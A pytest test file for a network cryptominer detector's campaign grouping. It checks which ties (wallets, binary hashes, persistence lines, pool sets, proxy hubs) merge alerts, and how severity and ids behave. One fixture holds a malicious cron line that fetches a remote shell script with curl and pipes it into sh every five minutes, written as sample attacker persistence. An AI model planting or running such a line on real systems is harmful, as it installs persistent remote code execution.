"""Campaign grouping: which ties merge alerts, which only link them, ids, severity, proxies."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest
from eve_schema import check_eve_text

from netdetect.agent.schema import HostReport, PersistenceEntry, ProcessFacts
from netdetect.campaign import POOL_SET_MAX, POOL_SET_MIN, CampaignBook, group, strip_login
from netdetect.model import (
    Alert,
    Endpoint,
    Evidence,
    MinerFacts,
    PoolFacts,
    Suspect,
    Verdict,
)
from netdetect.sinks.eve import EveWriter

WALLET_A = "4" + "A" * 94
WALLET_B = "4" + "B" * 94
XMRIG = "XMRig/6.16.0 (Linux x86_64) libuv/1.42.0 gcc/9.3.0"
JA3 = "c34a54599a1fbaf1786aa6d633545a60"  # OpenSSL 1.1.1 defaults: many programs send it


def alert(n: int, miner: str, pool: str, *, port: int = 3333, pool_host: str | None = None,
          login: str | None = None, agent: str | None = None, ja3: str | None = None,
          listed: bool = False, host_id: str | None = None, report: HostReport | None = None,
          ts: float = 1_767_600_000.0) -> Alert:
    s = Suspect(
        flow_id=1000 + n, ts=ts + n, first_ts=ts + n, miner=Endpoint(miner, 40000 + n),
        pool=Endpoint(pool, port), proto="TCP", app_proto="stratum", dialect="cryptonote",
        score=90, evidence=(Evidence("stratum-client", 70, "login", ts + n),),
        methods=("login",),
        pool_facts=PoolFacts(host=pool_host, host_source="dns" if pool_host else None,
                             list_match=pool_host if listed else None),
        miner_facts=MinerFacts(agent=agent, login=login, ja3=ja3))
    verdict = Verdict.CONFIRMED if report is not None else Verdict.NETWORK_ONLY
    return Alert(s, verdict, 1 if report else 2, host_id=host_id, host=report)


def host_report(host: str, *, sha: str = "ab" * 32, cron: str | None = None) -> HostReport:
    persistence = [] if cron is None else [PersistenceEntry(
        kind="cron", path="/var/spool/cron/crontabs/root", line=2, text=cron, mtime=0.0,
        references_process=True, download_exec="curl" in cron, technique="T1053.003")]
    return HostReport(
        v=1, host_id=host, nonce="0" * 32, generated_at=0.0, found=True,
        process=ProcessFacts(
            pid=7, ppid=1, name="kworker", user="root", exe="/tmp/kworker", exe_deleted=False,
            exe_suspicious_dir=True, exe_sha256=sha, cmdline=["/tmp/kworker", "-B"], cwd="/tmp",
            start_time=0.0, cgroup=None, container_id=None, netns=None, threads=4,
            cpu_percent=390.0, rss_bytes=1 << 30, hugepages_kb=0),
        persistence=persistence)


def ids(book: CampaignBook, alerts: list[Alert]) -> list[str]:
    return [book.tag(a).campaign.id for a in alerts]  # type: ignore[union-attr]


@pytest.mark.parametrize(("login", "want"), [
    (WALLET_A + ".rig07", (WALLET_A, True)),
    (WALLET_A + "+50000", (WALLET_A, True)),
    (WALLET_A + ".0123456789abcdef.rig", (WALLET_A, True)),
    ("0x9C99d212f7e5daa18ab50810e0fd255d1f04303B/tester.worker1/v@mailinator", (
        "0x9c99d212f7e5daa18ab50810e0fd255d1f04303b", True)),
    ("Someone@Example.com", ("someone@example.com", False)),
    ("broatcast.worker1", ("broatcast", False)),
    ("x", None), ("worker", None), ("  ", None), ("ab.rig", None),
])
def test_login_suffixes_are_stripped_and_placeholders_name_nobody(
        login: str, want: tuple[str, bool] | None) -> None:
    assert strip_login(login) == want


def test_same_wallet_on_two_hosts_with_different_workers_is_one_campaign() -> None:
    book = CampaignBook()
    a, b = ids(book, [alert(1, "10.0.0.1", "198.51.100.1", login=WALLET_A + ".rig1"),
                      alert(2, "10.0.0.2", "203.0.113.9", login=WALLET_A + ".rig2")])
    assert a == b
    (c,) = book.campaigns()
    assert set(c.hosts()) == {"10.0.0.1", "10.0.0.2"}
    assert [t["kind"] for t in c.summary()["ties"]] == ["wallet"]


def test_a_popular_pool_and_a_stock_miner_alone_do_not_merge_strangers() -> None:
    """Weak ties (pool, agent, TLS fingerprint, address) are shown, never merged on."""
    book = CampaignBook()
    got = ids(book, [
        alert(1, "10.0.0.1", "198.51.100.23", pool_host="pool.supportxmr.com", listed=True,
              agent=XMRIG, login=WALLET_A),
        alert(2, "10.0.0.2", "198.51.100.23", pool_host="pool.supportxmr.com", listed=True,
              agent=XMRIG, login=WALLET_B),
        alert(3, "10.0.0.3", "198.51.100.23", pool_host="pool.supportxmr.com", listed=True,
              ja3=JA3),
        alert(4, "10.0.0.4", "198.51.100.23", pool_host="pool.supportxmr.com", listed=True,
              ja3=JA3),
    ])
    assert len(set(got)) == 4
    first = book.get(got[0])
    assert first is not None
    related = book.related(first)
    assert (got[1], "pool", "pool.supportxmr.com") in related
    assert (got[1], "agent", XMRIG) in related


def test_one_host_reconnecting_to_its_pool_is_one_campaign() -> None:
    book = CampaignBook()
    got = ids(book, [alert(1, "10.0.0.1", "198.51.100.7", pool_host="xmr.example.net"),
                     alert(2, "10.0.0.1", "198.51.100.8", pool_host="xmr.example.net"),
                     alert(3, "10.0.0.1", "198.51.100.8", port=443, ja3=JA3)])
    assert len(set(got)) == 1  # a failover A record, then the same pool over TLS


def test_one_address_with_unrelated_miners_stays_apart() -> None:
    """NAT, DHCP and lab defaults reuse addresses: an address alone is a weak tie."""
    book = CampaignBook()
    got = ids(book, [alert(1, "10.0.2.15", "198.51.100.1", agent="bfgminer/5.2.0"),
                     alert(2, "10.0.2.15", "203.0.113.2", login=WALLET_B)])
    assert got[0] != got[1]


def test_exe_hash_merges_unless_the_wallets_disagree() -> None:
    book = CampaignBook()
    same = ids(book, [
        alert(1, "10.0.0.1", "198.51.100.1", host_id="web-1", report=host_report("web-1")),
        alert(2, "10.0.0.2", "203.0.113.1", host_id="web-2", report=host_report("web-2")),
    ])
    assert same[0] == same[1]
    # A stock release binary mining for two wallets is two campaigns.
    book = CampaignBook()
    apart = ids(book, [
        alert(1, "10.0.0.1", "198.51.100.1", host_id="a", login=WALLET_A,
              report=host_report("a", sha="cd" * 32)),
        alert(2, "10.0.0.2", "203.0.113.1", host_id="b", login=WALLET_B,
              report=host_report("b", sha="cd" * 32)),
    ])
    assert apart[0] != apart[1]


def test_persistence_line_ties_hosts_and_raises_severity() -> None:
    cron = "*/5 * * * * curl -fsSL http://203.0.113.50/x.sh | sh"
    book = CampaignBook()
    before = ids(book, [alert(1, "10.0.0.1", "198.51.100.1", host_id="a",
                              report=host_report("a", sha="01" * 32, cron=cron))])
    c = book.get(before[0])
    assert c is not None
    level_one = c.severity()
    after = ids(book, [alert(2, "10.0.0.2", "203.0.113.1", host_id="b",
                             report=host_report("b", sha="02" * 32, cron=cron))])
    assert after == before
    s = c.summary()
    assert {t["kind"] for t in s["ties"]} >= {"persistence", "url"}
    assert s["techniques"] == ["T1496"] or "T1496" in s["techniques"]
    assert c.severity()[1] > level_one[1]
    assert s["persistence"][0]["path"] == "/var/spool/cron/crontabs/root"


def test_proxy_hub_members_and_upstream_whatever_the_order() -> None:
    upstream = alert(0, "10.9.0.10", "198.51.100.23", pool_host="pool.supportxmr.com",
                     login=WALLET_A)
    members = [alert(n, f"10.9.1.{n}", "10.9.0.10", login="x") for n in range(1, 6)]
    for order in ([upstream, *members], [*members, upstream], [*members[:2], upstream,
                                                                *members[2:]]):
        book = CampaignBook()
        got = ids(book, order)
        assert len(set(got)) == 1
        (c,) = book.campaigns()
        (hub,) = c.proxies().values()
        assert hub.ip == "10.9.0.10"
        assert set(hub.members) == {f"10.9.1.{n}" for n in range(1, 6)}
        assert dict(hub.upstream) == {"pool.supportxmr.com": 1}
        assert "an internal mining proxy relays it" in c.severity()[2]


def test_ids_are_stable_and_a_merge_keeps_the_older_id() -> None:
    def run() -> tuple[list[str], CampaignBook]:
        book = CampaignBook()
        return ids(book, [
            alert(1, "10.0.0.1", "198.51.100.1", login=WALLET_A),
            alert(2, "10.0.0.2", "203.0.113.1", login=WALLET_B),
            # one host paying both wallets joins the two campaigns
            alert(3, "10.0.0.3", "198.51.100.1", login=WALLET_B, agent="cpuminer/2.5"),
            # the same host and pool paying the other wallet: a session tie joins them
            alert(4, "10.0.0.3", "198.51.100.1", login=WALLET_A, agent="cpuminer/2.5"),
        ]), book

    first, book = run()
    again, _ = run()
    assert first == again
    assert first[0] != first[1]
    assert first[3] == first[0]  # the older campaign keeps its id
    (c,) = book.campaigns()
    assert c.merged == [first[1]]
    assert book.get(first[1]) is c  # the absorbed id still finds it


def test_eve_lines_carry_the_campaign_and_validate(tmp_path: Any) -> None:
    buf = io.StringIO()
    eve = EveWriter(buf)
    book = CampaignBook()
    for a in [alert(1, "10.0.0.1", "198.51.100.1", login=WALLET_A),
              alert(2, "10.0.0.2", "198.51.100.1", login=WALLET_A + ".b")]:
        eve.write(book.tag(a))
    records = check_eve_text(buf.getvalue())
    assert records[0]["netdetect"]["campaign"]["ties"] == []
    assert records[1]["netdetect"]["campaign"] == {"id": records[0]["netdetect"]["campaign"][
        "id"], "ties": ["wallet"]}
    # Regrouping the written EVE gives the campaigns the sensor gave.
    regrouped = group(json.loads(line) for line in buf.getvalue().splitlines())
    assert [c.id for c in regrouped.campaigns()] == [c.id for c in book.campaigns()]


def test_allowlisted_matches_are_not_grouped() -> None:
    book = CampaignBook()
    a = alert(1, "10.0.0.1", "198.51.100.1", login=WALLET_A)
    allowed = Alert(a.suspect, Verdict.ALLOWED, 3)
    assert book.tag(allowed).campaign is None
    assert len(book) == 0


def test_a_prober_host_does_not_build_pool_sets_and_stays_linear() -> None:
    book = CampaignBook()
    got = ids(book, [alert(n, "10.0.0.1", f"198.51.{n // 250}.{n % 250}", agent="cgminer/3.7.2")
                     for n in range(2000)])
    assert len(set(got)) == 1
    (c,) = book.campaigns()
    # Past POOL_SET_MAX pools a host is a prober: its pool set stops being a tie.
    assert sum(k == "pool-set" for k, _ in c.links) == POOL_SET_MAX - POOL_SET_MIN + 1
    assert len(c.pools()) == 2000


def test_the_same_pool_set_on_two_hosts_is_one_campaign() -> None:
    book = CampaignBook()
    pools = ("a.pool.example", "b.pool.example", "c.pool.example")
    # One miner configuration rotating over three pools, on two hosts; no wallet is seen.
    got = ids(book, [alert(n, "10.0.0.1", f"198.51.100.{n}", pool_host=p, agent=XMRIG)
                     for n, p in enumerate(pools)]
              + [alert(10 + n, "10.0.0.2", f"198.51.100.{n}", pool_host=p, agent=XMRIG)
                 for n, p in enumerate(pools)])
    assert len(set(got[:3])) == 1
    assert len(set(got[3:5])) == 1
    assert got[0] != got[3]
    (c,) = book.campaigns()  # the third pool completes the set: the hosts join
    assert got[5] == got[0]
    assert c.merged == [got[3]]
    assert ("pool-set", "|".join(pools)) in c.links


def test_home_net_answers_for_text_and_raw_addresses_alike() -> None:
    import socket

    from netdetect.detect import HomeNet

    home = HomeNet(["10.0.0.0/8", "fc00::/7"])
    for text, inside in [("10.1.2.3", True), ("192.0.2.1", False), ("fd00::5", True),
                         ("2001:db8::1", False)]:
        family = socket.AF_INET6 if ":" in text else socket.AF_INET
        assert (text in home) is inside
        assert (socket.inet_pton(family, text) in home) is inside
        assert (text in home) is inside  # answered again from what it remembers
    for junk in ("not-an-address", b"\x01\x02", 7, None):
        assert junk not in home
